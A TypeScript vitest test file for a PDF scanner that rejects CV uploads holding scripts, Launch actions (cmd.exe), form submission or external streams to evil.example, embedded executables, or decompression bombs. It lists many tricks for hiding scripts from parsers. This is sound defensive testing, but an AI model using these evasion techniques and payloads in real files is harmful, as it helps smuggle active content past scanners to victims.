import { deflateSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { pdfFile } from '#test/cv-files.ts'
import { isActivePdf } from './active-pdf.ts'
import { Unreadable } from './inspect-cv.ts'

/** 'active', 'unreadable', or nothing that speaks against it. */
function findingOf(content: Buffer): string | undefined {
  try {
    return isActivePdf(content) ? 'active' : undefined
  } catch (error) {
    if (error instanceof Unreadable) return 'unreadable'
    throw error
  }
}

/** A PDF with more objects before its end. */
const pdfWith = (...objects: (string | Buffer)[]): Buffer => {
  const [head = '', tail = ''] = pdfFile().toString('latin1').split('xref\n', 2)
  return Buffer.concat([
    Buffer.from(head, 'latin1'),
    ...objects.flatMap((object, index) => [
      Buffer.from(`${index + 9} 0 obj\n`),
      Buffer.from(object),
      Buffer.from('\nendobj\n'),
    ]),
    Buffer.from(`xref\n${tail}startxref\n9\n%%EOF`, 'latin1'),
  ])
}

const streamOf = (packed: Buffer, dictionary: string, length = `${packed.length}`): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${length} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream'),
  ])

const isDeflated = (filter: string): boolean => filter === 'FlateDecode' || filter === 'Fl'

/** Deflates; other packings are never undone, so their bytes do not matter. */
const pack = (content: Buffer, filters: readonly string[]): Buffer =>
  filters
    .toReversed()
    .reduce((packed, name) => (isDeflated(name) ? deflateSync(packed) : packed), content)

const script = '<< /S /JavaScript /JS (app.alert(1)) >>'

type Packing = {
  content?: string
  filters?: string[]
  filter?: string
  dictionary?: string
  length?: string
}
/** A stream of objects that has one. */
function objectStream({
  content = script,
  filters = ['FlateDecode'],
  filter,
  dictionary = '/Type /ObjStm /N 1 /First 4',
  length,
}: Packing = {}): Buffer {
  const named = filter ?? `/Filter [${filters.map((name) => `/${name}`).join(' ')}]`
  return streamOf(pack(Buffer.from(`8 0 ${content}`), filters), `${dictionary} ${named}`, length)
}

const page = (text: string, filters = ['FlateDecode'], more = '') =>
  streamOf(
    pack(Buffer.from(text), filters),
    `${more} /Filter [${filters.map((name) => `/${name}`).join(' ')}]`,
  )
const deflated = (content: string | Buffer, dictionary = '') =>
  streamOf(deflateSync(content), `${dictionary}/Filter /FlateDecode`)

/** A PDF with a script in a stream of this dictionary. */
const hidden = (dictionary: string) => pdfWith(objectStream({ dictionary }))

describe('a script is found', () => {
  test.each([1, 2, 3])('in a stream of objects that is deflated %i times', (times) => {
    const filters = Array.from({ length: times }, (_, index) =>
      index === 0 ? 'Fl' : 'FlateDecode',
    )
    expect(findingOf(pdfWith(objectStream({ filters })))).toBe('active')
    expect(
      findingOf(pdfWith(objectStream({ filters, content: '<< /Type /Font >>' }))),
    ).toBeUndefined()
  })

  test.each([
    ['as an object', pdfWith(script)],
    ['with a name in other letters', pdfWith('<< /S /J#61vaScr#69pt /JS (app.alert(1)) >>')],
    ['in a stream with another type', hidden('/Type /Page /N 1 /First 4')],
    ['in a stream with entries in other letters', hidden('/N 1 /F#69rst 4')],
    ['in a stream with the number of its objects only', hidden('/N 1')],
    ['of a rendition in a stream', pdfWith(objectStream({ content: '<< /JS (app.alert(1)) >>' }))],
    ['behind a large comment', hidden(`/Type /ObjStm /N 1 /First 4 %${'x'.repeat(40_000)}\n`)],
    ['behind a large string', hidden(`/X (${'x'.repeat(400_000)}) /Type /ObjStm /N 1 /First 4`)],
    ['before a large string', hidden(`/N 1 /First 4 /X <${'00'.repeat(400_000)}>`)],
    [
      'behind a string that looks like data',
      hidden('/N 1 /First 4 /X (>>\nstream\nx\nendstream\nendobj\n)'),
    ],
    ['behind a comment that looks like data', hidden('/N 1 /First 4 %>> stream endstream\n')],
    ['behind a string with parentheses', hidden(String.raw`/N 1 /First 4 /X (a \) (b) \\) `)],
    [
      'behind comments between the numbers',
      Buffer.concat([pdfWith('null'), Buffer.from('9%\n0%\nobj%\n'), objectStream()]),
    ],
    ['behind a false length', pdfWith(objectStream({ length: '1' }))],
    ['behind a length that is elsewhere', pdfWith(objectStream({ length: '10 0 R' }), '3')],
    [
      'behind a filter that is elsewhere',
      pdfWith(objectStream({ filter: '/Filter 10 0 R' }), '/FlateDecode'),
    ],
    [
      'behind filters that are elsewhere',
      pdfWith(objectStream({ filter: '/Filter 10 0 R' }), '[ 11 0 R ]', '/Fl'),
    ],
    ['in an object that stands in a string', pdfWith(`<< /Title (9 0 obj ${script} endobj) >>`)],
    [
      'in what looks like the content of a page',
      pdfWith(`<< /Length 9 >>\nstream\n9 0 obj ${script} endobj\nendstream`),
    ],
    ['in a page of a book that nobody named objects', hidden('/Kind /Page')],
  ])('%s', (_, content) => {
    expect(findingOf(content)).toBe('active')
  })
})

test.each([
  ['a program to launch', '<< /S /Launch /F (cmd.exe) >>'],
  ['a form that is sent', '<< /S /SubmitForm /F (https://evil.example) >>'],
  ['attached files', '<< /Names << /EmbeddedFiles << /Names [] >> >> >>'],
  ['an attached file without a type', '<< /Type /Filespec /F (cv.exe) /EF << /F 8 0 R >> >>'],
  ['a pin with a file', '<< /Type /Annot /Subtype /FileAttachment /FS 8 0 R >>'],
  ['an XFA form', '<< /AcroForm << /XFA 8 0 R >> >>'],
  ['a password', '<< /Encrypt 8 0 R >>'],
  ['content of another file', '<< /F (https://evil.example/x) /Length 0 >>\nstream\n\nendstream'],
])('a PDF with %s is active', (_, object) => {
  expect(findingOf(pdfWith(object))).toBe('active')
})

test.each([
  ...[
    'LZWDecode',
    'ASCII85Decode',
    'ASCIIHexDecode',
    'RunLengthDecode',
    'A85',
    'DCTDecode',
  ].flatMap((filter): [string, Buffer][] => [
    [`objects in ${filter}`, objectStream({ content: '', filters: [filter] })],
    [`objects in ${filter} and deflated`, objectStream({ filters: [filter, 'FlateDecode'] })],
    [`deflated objects in ${filter}`, objectStream({ filters: ['FlateDecode', filter] })],
  ]),
  [
    'objects behind a predictor',
    objectStream({ dictionary: '/N 1 /First 4 /DecodeParms << /Predictor 12 /Columns 4 >>' }),
  ],
  [
    'objects behind an abbreviated predictor',
    objectStream({ dictionary: '/N 1 /First 4 /DP << /Predictor 12 >>' }),
  ],
  ['objects in a filter that nobody knows', objectStream({ content: '', filters: ['Crypt'] })],
  [
    'objects behind two filters at once',
    objectStream({ dictionary: '/N 1 /First 4 /Filter /ASCIIHexDecode' }),
  ],
  ['a filter that is nowhere', objectStream({ filter: '/Filter 99 0 R' })],
  [
    'more filters than anybody needs',
    objectStream({ filters: Array.from({ length: 9 }, () => 'FlateDecode') }),
  ],
  [
    'a predictor of odd size',
    objectStream({
      dictionary: '/N 1 /First 4 /DecodeParms << /Predictor 2 /BitsPerComponent 1 >>',
    }),
  ],
  ['damaged objects', '<< /Type /ObjStm /First 4 /Filter /FlateDecode >>\nstream\nxxxx\nendstream'],
  [
    'a dictionary that does not end',
    '<< /N 1 /First 4 /Filter /FlateDecode ] >>\nstream\nxxxx\nendstream',
  ],
  [
    'objects that unpack to gigabytes',
    objectStream({ content: ' '.repeat(60_000_000), filters: ['FlateDecode', 'FlateDecode'] }),
  ],
  [
    'runs that unpack to gigabytes',
    streamOf(
      deflateSync(Buffer.alloc(2_000_000, Buffer.of(129, 32))),
      '/N 1 /First 4 /Filter [/Fl /RL]',
    ),
  ],
])('a PDF with %s cannot be read', (_, object) => {
  expect(findingOf(pdfWith(object))).toBe('unreadable')
})

test.each([
  ['objects in objects', Buffer.from('9 0 obj<<'.repeat(500_000))],
  ['strings without an end', Buffer.from('9 0 obj('.repeat(500_000))],
  ['comments', Buffer.from(`9 0 obj<<${'%\n'.repeat(2_000_000)}>>`)],
  ['the same object', Buffer.from('9 0 obj 1 endobj '.repeat(250_000))],
  [
    'pages with strings without an end',
    pdfWith(page(`(${'aaaa\\'.repeat(1_000_000)}${'a'.repeat(1_000_000)}`, ['FlateDecode'])),
  ],
  ['streams without an end', Buffer.from('9 0 obj<</N 1/Filter/A85>>stream\n!'.repeat(120_000))],
])(
  'four megabytes of %s take seconds of processor time at most',
  { timeout: 60_000 },
  (_, content) => {
    const before = process.threadCpuUsage()
    findingOf(content)
    const { user, system } = process.threadCpuUsage(before)
    expect((user + system) / 1000).toBeLessThan(10_000)
  },
)

const show = (text: string) => `BT /F1 24 Tf 72 720 Td (${text}) Tj ET`
const pixels = Buffer.from(Array.from({ length: 5000 }, (_, index) => (index * 7919) & 255))
const picture = (filter: string, more = '') =>
  streamOf(pixels, `/Type /XObject /Subtype /Image /Width 10 /Height 10 ${filter} ${more}`)
const predicted = '/W [1 2 1] /Root 1 0 R /DecodeParms << /Columns 4 /Predictor 12 >>'

/** Objects as the programs write them that people make a CV with. */
test.each<[string, ...(string | Buffer)[]]>([
  [
    'of Word',
    objectStream({
      content: '<</Type/StructElem/S/P/P 12 0 R/K 0/Pg 3 0 R>>',
      dictionary: '/Type/ObjStm/N 1/First 4',
    }),
    page(`/P <</MCID 0>> BDC q\n${show('Curriculum vitae')}\nQ EMC`),
    '<</Type/Annot/Subtype/Link/Rect[0 0 1 1]/BS<</W 0>>/F 4/A<</Type/Action/S/URI/URI(mailto:jane@mail.test) >>/StructParent 1>>',
    '<</Type/Catalog/Pages 2 0 R/Lang(en-US) /StructTreeRoot 12 0 R/MarkInfo<</Marked true>>/Metadata 13 0 R/ViewerPreferences 14 0 R>>',
    streamOf(
      Buffer.from('<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"></x:xmpmeta>'),
      '/Type/Metadata/Subtype/XML',
    ),
    deflated(Buffer.alloc(60, 1), `/Type /XRef /Size 15 ${predicted}`),
  ],
  [
    'of LibreOffice',
    page(
      `0.1 w\nq 0 0.028 611.972 791.971 re\nW* n\n${show('CV')}`,
      ['FlateDecode'],
      '/Length 10 0 R',
    ),
    '311',
    deflated('/CIDInit/ProcSet findresource begin 12 dict begin begincmap endcmap'),
    '<</Type/FontDescriptor/FontName/BAAAAA+LiberationSerif/FontFile2 13 0 R>>',
    '<</Count 2/First 14 0 R/Last 15 0 R>>',
    '<</Type/Catalog/Pages 2 0 R/OpenAction[1 0 R /XYZ null null 0]/Outlines 13 0 R>>',
  ],
  [
    'of LaTeX',
    objectStream({
      content: '<< /Title (Publications) /A 15 0 R /First 16 0 R >>',
      dictionary: '/Type /ObjStm /N 100 /First 808',
    }),
    page('BT /F8 9.9626 Tf 91.925 759.927 Td [(C)-1(V)]TJ ET'),
    deflated(
      '%!PS-AdobeFont-1.1: CMR10 1.00B /Private 14 dict dup begin',
      '/Length1 1500 /Length2 9000 /Length3 0',
    ),
    '<< /Type /Annot /Border[0 0 0]/H/I/C[0 1 1] /Rect [1 2 3 4] /Subtype /Link /A << /S /GoTo /D (section.1) >> >>',
    deflated(Buffer.alloc(400), '/Type /XRef /Index [0 100] /Size 100 /W [1 3 1] /Root 1 0 R'),
  ],
  [
    'of a browser',
    deflated(Buffer.alloc(3000, 'acsp'), '/N 3 /Alternate /DeviceRGB'),
    page('1 0 0 -1 0 792 cm\nq\n.75 0 0 .75 0 0 cm\n/G3 gs BT /F4 16 Tf <0026> Tj ET'),
    '<</Type /Annot /Subtype /Link /F 4 /Border [0 0 0] /A <</Type /Action /S /URI /URI (https://example.org/)>>>>',
    '<</ca 1 /BM /Normal>>',
  ],
  [
    'of an old printer',
    page(show('CV'), ['ASCII85Decode', 'LZWDecode']),
    page(show('CV'), ['A85', 'Fl']),
    page(show('CV'), ['ASCIIHexDecode']),
  ],
  [
    'with photographs and scans',
    picture('/Filter /DCTDecode'),
    picture('/Filter [/DCTDecode]', '/DecodeParms [null]'),
    picture('/Filter [/FlateDecode /DCTDecode]'),
    picture('/Filter /JPXDecode'),
    picture('/Filter /CCITTFaxDecode', '/DecodeParms << /K -1 /Columns 10 >>'),
    picture('/Filter /JBIG2Decode', '/DecodeParms << /JBIG2Globals 9 0 R >>'),
    deflated(Buffer.alloc(90_000_000), '/Type /XObject /Subtype /Image'),
  ],
  [
    'with form fields',
    '<< /AcroForm << /Fields [10 0 R] /DA (/Helv 0 Tf 0 g) >> >>',
    '<< /FT /Tx /T (Name) /V (Jane) /F 4 >>',
  ],
  [
    'that was saved again',
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Catalog /Pages 2 0 R >>\nendobj\n9 0 obj\n<< /Type /Catalog >>',
  ],
  ['that speaks of scripts', page(show('HTML/JavaScript /JS, Launch/Launch \\(2019\\)'))],
  ['with a page without content', '<< /Filter /FlateDecode /Length 0 >>\nstream\n\nendstream'],
  ['with a place to begin', '<< /OpenAction [3 0 R /Fit] >>'],
  ['with bytes that look like an object', page('obj\u0000(endless ', ['RunLengthDecode'])],
  ['without more than a page'],
])('a PDF %s is accepted', (_, ...objects) => {
  expect(findingOf(pdfWith(...objects))).toBeUndefined()
})
